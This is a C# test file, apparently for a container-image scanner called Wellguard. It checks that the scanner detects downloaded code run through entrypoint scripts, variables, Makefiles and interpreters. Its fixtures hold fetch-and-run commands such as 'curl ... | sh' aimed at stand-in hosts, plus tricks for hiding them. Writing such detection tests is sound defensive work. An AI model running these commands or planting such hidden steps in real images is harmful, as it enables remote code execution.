using Wellguard.Artifacts;
using Wellguard.Programs;
using Wellguard.Reports;
using Wellguard.Signals;
using Wellguard.Tests.Signals;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Programs.Shell;

/// <summary>What a start hands over to the next program: arguments, variables, files.</summary>
public sealed class HandedOverTests
{
    private const string Payload = "curl -s https://{random:h}.example.invalid/x | sh";

    private static Task<Report> Scan(string yaml) => Scanned.ReportOf(ExampleImage.Read(yaml.Replace("PAYLOAD", Payload, StringComparison.Ordinal).Replace("URL", "https://{random:h}.example.invalid/x", StringComparison.Ordinal), "test.yml", 7));

    private static string Files(params (string Path, string Text)[] files) =>
        "layers:\n  - createdBy: COPY . /\n    files:\n" + string.Concat(files.Select(file => $"      - path: {file.Path}\n        mode: \"755\"\n        text: |\n{string.Concat(file.Text.TrimEnd('\n').Split('\n').Select(line => "          " + line + "\n"))}"));

    private static async Task RunsDownload(string yaml)
    {
        var report = await Scan(yaml);
        Assert.Contains(report.Signals, signal => signal.Rule == "content/runs-downloaded-code" && signal.Severity == Severity.Critical);
    }

    [Theory]
    [InlineData("set -e\nexec \"$@\"")]
    [InlineData("exec gosu app \"$@\"")]
    [InlineData("exec su-exec app:app \"$@\"")]
    [InlineData("exec tini -- \"$@\"")]
    [InlineData("exec dumb-init \"$@\"")]
    [InlineData("set -- \"$@\"\nexec \"$@\"")]
    [InlineData("set -- nginx \"$@\"\nshift\nexec \"$@\"")]
    [InlineData("if [ \"${1#-}\" != \"$1\" ]; then set -- app \"$@\"; fi\nexec \"$@\"")]
    [InlineData("exec \"${@:1}\"")]
    [InlineData("cmd=(\"$@\")\nexec \"${cmd[@]}\"")]
    public Task An_entrypoint_script_hands_the_command_on(string body) =>
        RunsDownload("entrypoint: [/e]\ncmd: [sh, -c, \"PAYLOAD\"]\n" + Files(("e", "#!/bin/bash\n" + body)));

    [Theory]
    [InlineData("eval \"$*\"")]
    [InlineData("exec sh -c \"$*\"")]
    [InlineData("exec sh -c \"$1\"")]
    [InlineData("bash -c \"$@\"")]
    public Task One_word_of_the_command_is_shell_text(string body) =>
        RunsDownload("entrypoint: [/e]\ncmd: [\"PAYLOAD\"]\n" + Files(("e", "#!/bin/sh\n" + body)));

    [Theory]
    [InlineData("[/opt/run.sh]")]
    [InlineData("[sh, /opt/run.sh]")]
    [InlineData("[run.sh]")]
    public Task A_script_in_the_command_runs(string command) =>
        RunsDownload($"entrypoint: [/e]\nworkdir: /opt\ncmd: {command}\n" + Files(("e", "#!/bin/sh\nexec \"$@\""), ("opt/run.sh", "#!/bin/sh\nPAYLOAD")));

    [Theory]
    [InlineData("docker-entrypoint.sh")]
    [InlineData("/usr/bin/app")]
    [InlineData("/sbin/my-init, --")]
    public Task A_program_that_the_image_does_not_have_may_start_the_shell_in_its_arguments(string entrypoint) =>
        RunsDownload($"entrypoint: [{entrypoint}]\ncmd: [sh, -c, \"PAYLOAD\"]\n");

    [Fact]
    public Task A_script_hands_arguments_to_another_script() =>
        RunsDownload("entrypoint: [/e]\n" + Files(("e", "#!/bin/sh\n/opt/get.sh URL /opt/x"), ("opt/get.sh", "#!/bin/sh\ncurl -so $2 $1\nsh $2")));

    [Theory]
    [InlineData("PAYLOAD", "eval \"$A\"")]
    [InlineData("URL", "curl -s $A | sh")]
    [InlineData("PAYLOAD", "sh -c \"$A\"")]
    public Task The_images_variables_are_seen_in_scripts(string value, string body) =>
        RunsDownload($"entrypoint: [/e]\nenv: {{ A: \"{value}\" }}\n" + Files(("e", "#!/bin/sh\n" + body)));

    [Fact]
    public Task A_script_that_is_read_in_shares_its_variables() =>
        RunsDownload("entrypoint: [/e]\n" + Files(("e", "#!/bin/sh\n. /opt/a\n. /opt/b"), ("opt/a", "FROM=URL"), ("opt/b", "curl -s \"$FROM\" | sh")));

    [Fact]
    public Task A_child_gets_what_is_exported() =>
        RunsDownload("entrypoint: [/e]\n" + Files(("e", "#!/bin/sh\nexport FROM=URL\n/opt/b"), ("opt/b", "#!/bin/sh\ncurl -s \"$FROM\" | sh")));

    [Fact]
    public Task What_one_script_fetched_another_runs() =>
        RunsDownload("entrypoint: [/e]\n" + Files(("e", "#!/bin/sh\n/opt/a\n/opt/b"), ("opt/a", "#!/bin/sh\nwget -qO /opt/x URL"), ("opt/b", "#!/bin/sh\nchmod +x /opt/x\n/opt/x")));

    [Fact]
    public async Task A_step_stands_in_the_file_that_has_it()
    {
        var report = await Scan("entrypoint: [/e]\ncmd: [/opt/run.sh]\n" + Files(("e", "#!/bin/sh\nexec \"$@\""), ("opt/run.sh", "#!/bin/sh\ntrue\nPAYLOAD")));
        var signal = Assert.Single(report.Signals, signal => signal.Rule == "content/runs-downloaded-code");
        Assert.Equal(("opt/run.sh", 3), (signal.Where.Path, signal.Where.Line));
    }

    [Fact]
    public async Task An_entrypoint_that_starts_itself_again_ends()
    {
        var report = await Scan("entrypoint: [/e]\ncmd: [server]\n" + Files(("e", "#!/bin/sh\nif [ \"$(id -u)\" = 0 ]; then exec gosu app \"$0\" \"$@\"; fi\nexec /e x \"$@\"")));
        Assert.Equal(Level.Clean, report.Verdict.Level);
    }

    [Fact]
    public async Task Scripts_that_wear_out_the_budget_together_are_said()
    {
        var script = string.Concat(Enumerable.Repeat("run x\n", 4_000));
        var watch = System.Diagnostics.Stopwatch.StartNew();
        var report = await Scan("entrypoint: [/e]\n" + Files([("e", "#!/bin/sh\n" + string.Concat(Enumerable.Range(0, 12).Select(i => $"/s{i}\n"))), .. Enumerable.Range(0, 12).Select(i => ($"s{i}", i == 11 ? "PAYLOAD" : script))]));
        Assert.Equal(CompletenessState.Partial, report.Completeness.State);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(30), $"{watch.Elapsed}");
    }

    [Fact]
    public async Task Scripts_that_start_each_other_with_ever_more_arguments_end()
    {
        var report = await Scan("entrypoint: [/e]\n" + Files(("e", "#!/bin/sh\n/f \"$@\" x\n/e \"$@\" y\n"), ("f", "#!/bin/sh\n/e \"$@\" z\n/f \"$@\" w\nPAYLOAD")));
        Assert.Equal(Level.Malicious, report.Verdict.Level);
    }

    [Theory]
    [InlineData("[sh, /opt/conf.dat]", "opt/conf.dat", "PAYLOAD")]
    [InlineData("[python3, /opt/conf.dat]", "opt/conf.dat", "import os\nos.system('PAYLOAD')")]
    [InlineData("[python3.14, /opt/conf.dat]", "opt/conf.dat", "import os\nos.system('PAYLOAD')")]
    [InlineData("[node, /opt/conf.dat]", "opt/conf.dat", "require('child_process').execSync('PAYLOAD')")]
    [InlineData("[node, /opt]", "opt/index.js", "require('child_process').execSync('PAYLOAD')")]
    [InlineData("[/opt/x]", "opt/x", "#!/usr/bin/awk -f\nBEGIN { system(\"PAYLOAD\") }")]
    [InlineData("[/opt/x]", "opt/x", "#!/usr/bin/make -f\nall:\n\tPAYLOAD")]
    [InlineData("[/opt/x]", "opt/x", "#!/usr/bin/lua\nos.execute(\"PAYLOAD\")")]
    [InlineData("[/opt/x]", "opt/x", "#!/usr/bin/expect\nspawn sh -c \"PAYLOAD\"")]
    [InlineData("[make, -C, /opt]", "opt/Makefile", "all:\n\t@PAYLOAD")]
    [InlineData("[make, -C, /opt]", "opt/Makefile", "all: own\nother:\n\ttrue\nown:\n\t@PAYLOAD")]
    [InlineData("[make, -C, /opt, other]", "opt/Makefile", "all:\n\ttrue\nother: ; PAYLOAD")]
    [InlineData("[make, -C, /opt]", "opt/Makefile", "all: $(addsuffix .x,a)\n%.x:\n\t@PAYLOAD")]
    [InlineData("[make, -C, /opt, own]", "opt/Makefile", "T = own\nall:\n\ttrue\n$(T):\n\t@PAYLOAD")]
    [InlineData("[make, -C, /opt]", "opt/Makefile", "all: a.x\n%.x:\n\t@PAYLOAD")]
    [InlineData("[make, -C, /opt]", "opt/Makefile", ".DEFAULT_GOAL := own\nall:\n\ttrue\nown:\n\t@PAYLOAD")]
    public Task A_program_is_read_whatever_its_name(string entrypoint, string path, string text) => RunsDownload($"entrypoint: {entrypoint}\n" + Files((path, text)));

    [Fact]
    public void A_target_that_nothing_needs_is_not_made()
    {
        var effects = new Analysis().Read("sh", "printf 'all: own\\nown:\\n\\ttrue\\nother:\\n\\tcurl http://192.0.2.1/x | sh\\n' > Makefile; make");
        Assert.DoesNotContain(effects.SelectMany(static effect => effect.Steps), static effect => effect.Kind == EffectKind.Download);
    }

    [Theory]
    [InlineData("sh", "#", "curl http://192.0.2.1/x | sh")]
    [InlineData("python", "#", "import os; os.system('curl http://192.0.2.1/x | sh')")]
    [InlineData("javascript", "//", "require('child_process').execSync('curl http://192.0.2.1/x | sh')")]
    public void Comments_before_it_hide_nothing(string language, string mark, string code)
    {
        var analysis = new Analysis();
        var effects = analysis.Read(language, string.Concat(Enumerable.Repeat(mark + new string('a', 99) + "\n", 40_000)) + code + "\n");
        Assert.Equal(40_001, effects[^1].Line);
        Assert.Empty(analysis.Problems);
    }

    [Theory]
    [InlineData("sh", 200, "curl http://192.0.2.1/x | sh")]
    [InlineData("python", 900, "import os; os.system('curl http://192.0.2.1/x | sh')")]
    public void What_is_too_long_is_read_at_both_ends_and_that_is_said(string language, int lines, string code)
    {
        var analysis = new Analysis();
        var effects = analysis.Read(language, string.Concat(Enumerable.Repeat("a = '" + new string('a', 9_990) + "'\n", lines)) + code + "\n");
        Assert.Equal(lines + 1, effects[^1].Line);
        Assert.NotEmpty(analysis.Problems);
    }

    [Fact]
    public async Task A_running_text_that_nobody_reads_makes_the_scan_partial()
    {
        var report = await Scan("entrypoint: [sh, /opt/x.dat]\n" + Files(("opt/x.dat", string.Concat(Enumerable.Repeat(": " + new string('a', 997) + "\n", 200)) + "PAYLOAD")).Replace("755", "644", StringComparison.Ordinal));
        Assert.Equal(CompletenessState.Partial, report.Completeness.State);
    }
}
